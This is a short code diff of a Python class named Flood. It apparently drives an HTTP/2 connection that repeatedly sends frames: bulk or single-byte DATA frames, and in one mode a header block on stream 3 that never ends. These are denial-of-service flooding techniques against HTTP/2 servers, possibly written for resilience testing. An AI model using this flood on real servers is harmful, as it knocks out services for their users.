@@ -34,13 +34,13 @@ class Flood:
         start = header((HERE, 1), (HERE, 15008), OTHER) + PREFACE + SettingsFrame().serialize()
         self.socket.sendall(start + HeadersFrame(1, asks, flags=["END_HEADERS"]).serialize())
         self.came, self.link, self.stream = b"", 65_535, 65_535
-        self.out, self.piece = b"", self.pieces(asks)
+        # (a header block on stream 3 that never ends)
+        self.out = HeadersFrame(3, asks).serialize() if kind == "continued" else b""
+        self.piece = self.pieces()
         self.socket.setblocking(False)
 
-    def pieces(self, asks):
+    def pieces(self):
         """What it says again and again."""
-        if self.kind == "continued":
-            self.out = HeadersFrame(3, asks).serialize()
         frame, count = {
             "data": (DataFrame(1, bytes(16_384)), 4),
             "octets": (DataFrame(1, b"x"), 4096),
